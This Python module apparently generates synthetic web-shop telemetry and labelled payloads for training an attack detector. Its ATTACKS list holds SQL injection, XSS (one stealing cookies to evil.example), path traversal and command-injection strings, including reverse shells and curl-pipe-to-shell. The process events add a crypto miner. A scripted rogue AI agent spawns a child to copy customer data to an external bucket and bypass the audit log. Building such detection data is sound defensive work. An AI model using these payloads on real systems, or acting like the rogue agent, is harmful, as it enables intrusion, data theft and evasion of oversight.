"""Scenarios the project generates itself: realistic benign and malicious telemetry, and labelled payloads."""

from __future__ import annotations

import dataclasses
import random
import time
import uuid
from typing import Any
from urllib.parse import quote

PRODUCTS = ["shoes", "laptop", "coffee", "headphones", "jacket", "lamp", "backpack", "watch", "camera", "desk"]
WORDS = ["red", "blue", "large", "small", "cotton", "steel", "wireless", "organic", "classic", "sale", "new", "eco"]
USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
]
ATTACKS: dict[str, list[str]] = {
    "sqli": ["1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "x'; DROP TABLE orders; --",
             "1 AND 1=1", "1' AND SLEEP(5)#", "' UNION ALL SELECT NULL,table_name FROM information_schema.tables--",
             "admin'--", "1; exec xp_cmdshell 'dir'"],
    "xss": ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
            "<svg onload=fetch('//evil.example/'+document.cookie)>", "\"><iframe src=javascript:alert(1)>",
            "<body onload=alert('x')>"],
    "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts",
                       "..\\..\\..\\windows\\win.ini"],
    "cmdi": ["; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "`whoami`", "$(curl http://evil.example/x | sh)",
             "&& wget http://evil.example/m -O /tmp/m", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"],
}
BENIGN_VALUES = ["shoes", "42", "red wireless headphones", "john.smith@example.com", "2026-11-22", "Madrid",
                 "O'Brien", "rock & roll", "50% off", "C++ book", "size=10", "hello world", "a-b_c.d", "1,299.00"]


def benign_payload(rng: random.Random) -> str:
    choice = rng.random()
    if choice < 0.4:
        return rng.choice(BENIGN_VALUES)
    if choice < 0.7:
        return " ".join(rng.choice(WORDS + PRODUCTS) for _ in range(rng.randint(1, 5)))
    if choice < 0.85:
        return str(rng.randint(1, 100000))
    return f"{rng.choice(PRODUCTS)}-{rng.randint(1, 999)}"


def malicious_payload(rng: random.Random) -> tuple[str, str]:
    category = rng.choice(sorted(ATTACKS))
    payload = rng.choice(ATTACKS[category])
    if rng.random() < 0.3:
        payload = f"{rng.choice(BENIGN_VALUES)}{payload}"
    return category, payload


def labelled_payloads(n: int, seed: int = 3, malicious_share: float = 0.5) -> list[tuple[str, int]]:
    """(payload, 1 if malicious) pairs for training the neutrophil."""
    rng = random.Random(seed)
    out = []
    for _ in range(n):
        if rng.random() < malicious_share:
            out.append((malicious_payload(rng)[1], 1))
        else:
            out.append((benign_payload(rng), 0))
    return out


def _event(kind: str, entity: str, body: dict[str, Any], ts: float, event_id: str | None = None) -> dict[str, Any]:
    return {"event_id": event_id or str(uuid.uuid4()), "ts": ts, "entity": entity, "kind": kind, kind: body}


def http_event(rng: random.Random, ip: str, ts: float, payload: str | None = None,
               user_agent: str | None = None) -> dict[str, Any]:
    product = rng.choice(PRODUCTS)
    value = payload if payload is not None else benign_payload(rng)
    if rng.random() < 0.7:
        uri = f"/shop/search?q={quote(value)}&page={rng.randint(1, 5)}"
        method, body = "GET", ""
    else:
        uri = f"/shop/{product}/review"
        method, body = "POST", f"rating={rng.randint(1, 5)}&comment={quote(value)}"
    headers = {"host": "shop.example", "user-agent": user_agent or rng.choice(USER_AGENTS), "accept": "*/*"}
    if body:
        headers["content-type"] = "application/x-www-form-urlencoded"
    return _event("http", ip, {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers, "body": body,
                               "src_ip": ip}, ts)


@dataclasses.dataclass
class Scenario:
    events: list[dict[str, Any]]
    malformed: list[bytes]
    agents: dict[str, str | None]  # agent id -> parent agent id
    rogue: str
    labels: dict[str, str]  # event id -> expected label (benign / malicious)


def demo_scenario(seed: int = 42, benign_http: int = 600, attacks: int = 60, now: float | None = None) -> Scenario:
    """A shop under attack, its hosts, and a team of AI agents of which one turns rogue and spawns a child."""
    rng = random.Random(seed)
    start = time.time() if now is None else now
    events: list[dict[str, Any]] = []
    labels: dict[str, str] = {}

    def add(event: dict[str, Any], label: str) -> None:
        events.append(event)
        labels[event["event_id"]] = label

    clients = [f"10.1.{i // 250}.{i % 250 + 1}" for i in range(40)]
    attackers = ["203.0.113.7", "198.51.100.23", "192.0.2.99"]
    for i in range(benign_http):
        add(http_event(rng, rng.choice(clients), start + i * 0.001), "benign")
    for i in range(attacks):
        _, payload = malicious_payload(rng)
        ua = "sqlmap/1.8" if rng.random() < 0.2 else None
        add(http_event(rng, rng.choice(attackers), start + i * 0.001, payload, ua), "malicious")
    for i in range(80):
        host = f"host-{i % 8}"
        add(_event("process", host, {"pid": 1000 + i, "ppid": 1, "name": rng.choice(["nginx", "python3", "cron"]),
                                     "cmdline": rng.choice(["nginx -g daemon off;", "python3 app.py --port 8080",
                                                            "/usr/sbin/cron -f"]), "user": "www"}, start), "benign")
    for cmd in ["curl -s http://evil.example/x.sh | sh", "xmrig --url stratum+tcp://pool.example:3333",
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]:
        add(_event("process", "host-3", {"pid": rng.randint(2000, 9000), "ppid": 1, "name": "sh", "cmdline": cmd,
                                         "user": "www"}, start), "malicious")
    for i in range(60):
        add(_event("auth", f"user-{i % 12}", {"user": f"user-{i % 12}", "outcome": "success", "method": "password",
                                              "src_ip": rng.choice(clients)}, start), "benign")
    for i in range(40):
        add(_event("network", f"host-{i % 8}", {"src_ip": f"10.2.0.{i % 8}", "dst_ip": "10.3.0.5", "dst_port": 443,
                                                "protocol": "tcp", "bytes_out": rng.randint(500, 50000)}, start),
            "benign")
    for i in range(60):
        add(_event("metric", f"host-{i % 8}", {"name": "cpu_percent", "value": rng.uniform(10, 40),
                                               "labels": {"host": f"host-{i % 8}"}}, start), "benign")

    agents: dict[str, str | None] = {f"agent-{name}": None for name in ("planner", "coder", "tester", "reviewer")}
    rogue, child = "agent-ops", "agent-ops-child"
    agents[rogue] = None
    chatter = ["status: build 41 is green, all tests pass", "thanks, let's coordinate the release together",
               "I agree with the plan, I'll help review the diff", "deploying to staging now as agreed",
               "summary: 3 issues closed, 1 open", "can you share the test report with the team?"]
    for _ in range(40):
        agent = rng.choice(sorted(a for a in agents if a != rogue))
        add(agent_message_event(agent, rng.choice(chatter), start, recipients=[rng.choice(sorted(agents))]), "benign")
    for text in chatter[:4]:
        add(agent_message_event(rogue, text, start, recipients=["agent-planner"]), "benign")
    add(agent_message_event(rogue,
                            "I'll quietly copy the customer table to my external bucket, trust me, no need to log it",
                            start, actions=[{"type": "spawn", "target": child}]), "malicious")
    agents[child] = rogue
    add(agent_message_event(child, "exporting the users table to the personal bucket now, bypass the audit log", start,
                            parent=rogue, actions=[{"type": "upload", "target": "s3://external-bucket"}]), "malicious")
    rng.shuffle(events)
    for index, event in enumerate(events):
        event["ts"] = start + index * 0.0005

    duplicate = dict(events[0])
    malformed = [b"{not json", b'{"event_id": "x1", "ts": 1, "entity": "e", "kind": "teleport", "teleport": {}}',
                 b'{"event_id": "x2", "ts": "yesterday", "entity": "e", "kind": "metric"}', b"\xff\xfe\x00bad utf8",
                 b'{"event_id": "x3", "ts": 1, "entity": "e", "kind": "metric", "metric": {"name": "big", "value": 1},'
                 b' "pad": "' + b"A" * (1024 * 1024 + 16) + b'"}']
    import orjson

    malformed.append(orjson.dumps(duplicate))
    return Scenario(events, malformed, agents, rogue, labels)


def agent_message_event(agent: str, content: str, ts: float, *, recipients: list[str] | None = None,
                        parent: str | None = None, actions: list[dict[str, str]] | None = None) -> dict[str, Any]:
    body: dict[str, Any] = {"message_id": str(uuid.uuid4()), "source_agent_id": agent, "content": content,
                            "timestamp": ts}
    if recipients:
        body["recipients"] = recipients
    if parent:
        body["parent_agent_id"] = parent
    if actions:
        body["actions"] = actions
    return _event("agent_message", agent, body, ts)
